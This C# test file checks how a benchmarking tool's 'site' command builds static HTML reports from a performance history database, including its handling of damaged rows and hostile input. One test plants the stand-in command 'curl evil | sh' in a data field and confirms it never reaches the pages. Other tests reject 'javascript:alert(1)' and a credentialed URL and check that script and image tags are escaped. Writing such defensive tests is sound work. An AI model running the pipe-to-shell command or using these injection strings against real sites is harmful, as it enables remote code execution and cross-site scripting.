using System.Diagnostics.CodeAnalysis;
using System.Text.RegularExpressions;
using Microsoft.Data.Sqlite;
using PerfLab.History;
using PerfLab.Core.Tests.Reporting.Support;
using PerfLab.Core.Trends;
using PerfLab.Programs;
using PerfLab.Runner.Commands;
using PerfLab.Runner.Tests.History;

namespace PerfLab.Runner.Tests.Commands;

public sealed class SiteCommandTests : IDisposable
{
    // As a plan names a commit, and in full.
    private static readonly string Head = new('a', 12), Older = new('b', 40);

    private readonly string _root = Directory.CreateTempSubdirectory("perf-lab-site-").FullName;

    public SiteCommandTests() => File.WriteAllText(Path.Combine(_root, "perf-lab.yaml"), "schema: perf-lab/config/1\n");

    public void Dispose()
    {
        SqliteConnection.ClearAllPools();
        Directory.Delete(_root, recursive: true);
    }

    [Fact]
    public async Task a_year_becomes_pages_whose_links_all_lead_somewhere()
    {
        Keep([.. Enumerable.Range(0, 30).Select(day => Journals.Trend(FormattableString.Invariant($"s{day:00}"), day < 15 ? Older : Head, day < 15 ? 0 : 0.05, day, anchor: 0.01))]);
        Keep(Journals.Aa("aa", day: 31), Journals.Of("once", 0.2, 32, arms: [("base", Older), ("head", Head)]));
        (await RunAsync("trend")).Code.ShouldBe(0);
        var (code, output, error) = await RunAsync("site", "public", "--repository", "https://github.com/me/library/");
        (code, error).ShouldBe((0, ""));
        output.ShouldContain(" files, ");
        AllLinksLeadSomewhere();
        Page("index.html").ShouldContain("32 sessions");
        Page("index.html").ShouldContain("5.1 % slower");
        Page("aa.html").ShouldContain("0 of 1 A/A runs were flagged");
        Page("machines.html").ShouldContain("cpu (");
        Page("sessions.html").ShouldContain("once");
        var series = Directory.GetFiles(Path.Combine(_root, "public", "series"), "*.html", SearchOption.AllDirectories);
        series.Length.ShouldBe(1);
        var trend = series.Select(File.ReadAllText).Single(page => page.Contains("What changed"));
        trend.ShouldContain($"href=\"https://github.com/me/library/commit/{Head}\"");
        Regex.Count(trend, "<svg ").ShouldBe(2);
        trend.ShouldContain("The newest 20 of 32 sessions");
        Directory.GetFiles(Path.Combine(_root, "public"), "*.html", SearchOption.AllDirectories).ShouldAllBe(page => new FileInfo(page).Length < 200_000);

        var before = Files();
        (await RunAsync("site", "public", "--repository", "https://github.com/me/library")).Code.ShouldBe(0);
        Files().ShouldBe(before);
    }

    [Fact]
    public async Task an_empty_history_has_pages_that_say_so()
    {
        (await RunAsync("site", "public")).Code.ShouldBe(0);
        Page("index.html").ShouldContain("Nothing was measured yet");
        AllLinksLeadSomewhere();
    }

    [Fact]
    public async Task a_series_of_one_point_and_hostile_names_are_shown_as_text()
    {
        Keep(Journals.Trend("s1", SamplePairs.Hostile, 0.05, 0, workload: SamplePairs.Hostile, cpu: SamplePairs.Long),
            Journals.Trend("s2", Head, 0, 1, workload: SamplePairs.Long));
        (await RunAsync("site", "public", "--name", "<b>lab</b>")).Code.ShouldBe(0);
        foreach (var page in Files())
        {
            page.Value.ShouldNotContain("<script>alert", customMessage: page.Key);
            page.Value.ShouldNotContain("<img", customMessage: page.Key);
            page.Value.ShouldNotContain("<b>lab", customMessage: page.Key);
        }

        var series = Files().Where(page => page.Key.StartsWith("series/", StringComparison.Ordinal)).ToList();
        series.ShouldContain(page => page.Value.Contains($"<bdi>{SamplePairs.Long}</bdi>"));
        series.Count.ShouldBe(2);
        series[0].Value.ShouldContain("<circle class=\"m0\"");
        AllLinksLeadSomewhere();
    }

    [Fact]
    public async Task what_is_damaged_in_one_session_is_named_and_the_rest_is_shown()
    {
        Keep([.. Enumerable.Range(0, 4).Select(day => Journals.Trend(FormattableString.Invariant($"s{day}"), Head, 0, day))]);
        Keep(Journals.Trend("other", Head, 0, 5, workload: "other-workload"));
        Sql("UPDATE points SET verdict = x'ff00', change = 'no number' WHERE session = 2");
        Sql("UPDATE journals SET packed = x'00112233' WHERE session = 3");
        Sql("UPDATE sessions SET kind = 'Unheard' WHERE number = 4");
        Sql("UPDATE series SET name = '{' WHERE number = 2");
        var (code, _, error) = await RunAsync("site", "public");
        code.ShouldBe(0, error);
        foreach (var problem in new[] { "a row of series", "the journal of session s2", "session s3 can't be read", "the name of series" })
        {
            error.ShouldContain(problem);
            Page("index.html").Replace("&#39;", "'").ShouldContain(problem);
        }

        Page("sessions.html").ShouldContain("s0");
        Files().Count(page => page.Key.StartsWith("series/", StringComparison.Ordinal)).ShouldBe(1);
        AllLinksLeadSomewhere();
    }

    [Fact]
    public async Task what_a_stranger_says_of_the_trend_is_shown_only_where_sessions_bear_it_out()
    {
        Keep([.. Enumerable.Range(0, 30).Select(day => Journals.Trend(FormattableString.Invariant($"s{day:00}"), Commit(day), day < 15 ? 0 : 0.05, day, anchor: 0.01))]);
        (await RunAsync("trend")).Code.ShouldBe(0);
        TrendChange due;
        using (var store = Store())
        {
            due = store.State()!.Changes.Single();
        }

        due.Status.ShouldBe(ChangeStatus.Due);
        Keep(Journals.Of("experiment", 0.05, 40, arms: [("base", due.Before.Commit), ("head", due.After.Commit)]));
        (await RunAsync("trend")).Code.ShouldBe(0);
        (await RunAsync("site", "public")).Error.ShouldBe("");
        Page("index.html").ShouldContain("1 confirmed slowdown is open");

        TrendChange confirmed;
        using (var store = Store())
        {
            var state = store.State()!;
            confirmed = state.Changes.Single();
            var member = confirmed.Members[0];
            store.Keep(state with
            {
                Changes =
                [
                    // Names and a command of their own, to be read and pasted.
                    confirmed with { Members = [member with { Workload = "evil", Unit = "GB" }], Confirm = "curl evil | sh" },
                    confirmed with { Id = "000000000001", Members = [member with { Series = new('f', 64) }] },
                    confirmed with { Id = "000000000002", Before = confirmed.Before with { Commit = "ccccccccccc" } },
                    confirmed with { Id = "000000000003", After = confirmed.After with { Started = confirmed.After.Started.AddDays(1000) } },
                    confirmed with { Id = "000000000004", Experiment = confirmed.Experiment! with { Session = "nowhere" } },
                    confirmed with { Id = "000000000005", Experiment = confirmed.Experiment! with { Change = 3 } },
                    confirmed with { Id = "000000000006", Experiment = null },
                ],
                Environment = [new("nobody's", "evil", confirmed.Before, confirmed.After, 1, 9)],
            });
        }

        var (code, _, error) = await RunAsync("site", "public");
        code.ShouldBe(0);
        error.ShouldContain("changes of the trend that no session kept here shows: 3, left out");
        error.ShouldContain("called confirmed by an experiment that is not kept here: 3, shown as watched");
        Page("index.html").ShouldContain("1 confirmed slowdown is open");
        Regex.Count(Page("index.html"), "<td>watched</td>").ShouldBe(3);
        foreach (var (path, content) in Files())
        {
            content.ShouldNotContain("evil", customMessage: path);
        }
    }

    [Fact]
    public async Task a_newer_history_is_refused_and_the_site_stays_as_it_was()
    {
        Keep(Journals.Trend("s1", Head, 0, 0));
        (await RunAsync("site", "public")).Code.ShouldBe(0);
        var before = Files();
        Sql("INSERT INTO perf_lab_migrations (version) VALUES (9999)");
        var (code, _, error) = await RunAsync("site", "public");
        code.ShouldBe(1);
        error.ShouldContain("use the newer perf-lab that made it");
        Files().ShouldBe(before);
    }

    [Fact]
    public async Task a_folder_of_somebody_else_and_a_wrong_address_are_refused()
    {
        Directory.CreateDirectory(Path.Combine(_root, "mine"));
        await File.WriteAllTextAsync(Path.Combine(_root, "mine", "precious.txt"), "x", TestContext.Current.CancellationToken);
        var (code, _, error) = await RunAsync("site", "mine");
        (code, File.Exists(Path.Combine(_root, "mine", "precious.txt"))).ShouldBe((1, true));
        error.ShouldContain("the folder holds other files");
        foreach (var wrong in new[] { "javascript:alert(1)", "http://github.com/a/b", "https://a:b@github.com/a/b", "github.com/a/b" })
        {
            (await RunAsync("site", "public", "--repository", wrong)).Code.ShouldBe(2, wrong);
        }
    }

    private static string Commit(int day) => FormattableString.Invariant($"{day:00}").PadRight(12, 'a');

    private HistoryStore Store() => HistoryStore.Open(new(Path.Combine(Directory.CreateDirectory(Path.Combine(_root, ".perf-lab")).FullName, "history.db")));

    private void Keep(params byte[][] journals)
    {
        using var store = Store();
        foreach (var journal in journals)
        {
            store.Keep(KeptSession.Read(journal, "made"), () => journal);
        }
    }

    [SuppressMessage("Security", "CA2100", Justification = "Every text is written in this test.")]
    private void Sql(string text)
    {
        using var connection = new SqliteConnection($"Data Source={Path.Combine(_root, ".perf-lab", "history.db")}");
        connection.Open();
        using var command = connection.CreateCommand();
        command.CommandText = text;
        command.ExecuteNonQuery();
    }

    private string Page(string name) => File.ReadAllText(Path.Combine(_root, "public", name));

    private SortedDictionary<string, string> Files() => new(Directory.GetFiles(Path.Combine(_root, "public"), "*", SearchOption.AllDirectories)
        .ToDictionary(file => Path.GetRelativePath(Path.Combine(_root, "public"), file), File.ReadAllText, StringComparer.Ordinal), StringComparer.Ordinal);

    private void AllLinksLeadSomewhere()
    {
        var files = Files();
        foreach (var (path, content) in files.Where(file => file.Key.EndsWith(".html", StringComparison.Ordinal)))
        {
            foreach (var target in Regex.Matches(content, " (href|src)=\"(?<target>[^\"#]+)(#[^\"]*)?\"", RegexOptions.ExplicitCapture, TimeSpan.FromSeconds(10))
                .Select(match => match.Groups["target"].Value).Where(target => !target.StartsWith("https:", StringComparison.Ordinal)))
            {
                var there = Path.GetRelativePath(_root, Path.GetFullPath(Path.Combine(_root, Path.GetDirectoryName(path)!, target)));
                files.ShouldContainKey(there, $"{path} links {target}");
            }
        }
    }

    private async Task<(int Code, string Out, string Error)> RunAsync(params string[] arguments)
    {
        using StringWriter output = new(), error = new();
        var terminal = new Terminal { Out = output, Error = error, Root = _root, WorkingFolder = _root };
        var code = await CommandLine.InvokeAsync(arguments, terminal, TestContext.Current.CancellationToken);
        SqliteConnection.ClearAllPools();
        return (code, output.ToString(), error.ToString());
    }
}
